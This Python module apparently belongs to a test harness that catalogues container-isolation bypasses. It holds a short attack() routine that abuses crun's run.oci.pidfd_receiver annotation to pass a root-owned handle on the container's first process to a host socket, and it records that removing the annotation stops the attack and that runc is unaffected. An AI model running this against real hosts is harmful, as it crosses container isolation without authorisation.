"""run.oci.pidfd_receiver sends a handle of the container's first process to any socket of the host, as root."""

import os
import socket

from bypass import inert

SOURCE = "idea: crun(1)"
WAY = "create"
STOPPED = inert("the annotation is removed, and nobody is connected to")
BARE = {"runc": "runc reads no run.oci annotation"}


def attack(t):
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("/mnt/host/receiver")
    server.listen()
    server.settimeout(0.1)
    t.annotation("run.oci.pidfd_receiver", "/mnt/host/receiver")
    t.run("true")
    try:
        handles = socket.recv_fds(server.accept()[0], 65536, 4)[1]
    except OSError:
        return ""
    return [os.readlink("/proc/self/fd/%d" % handle) for handle in handles]
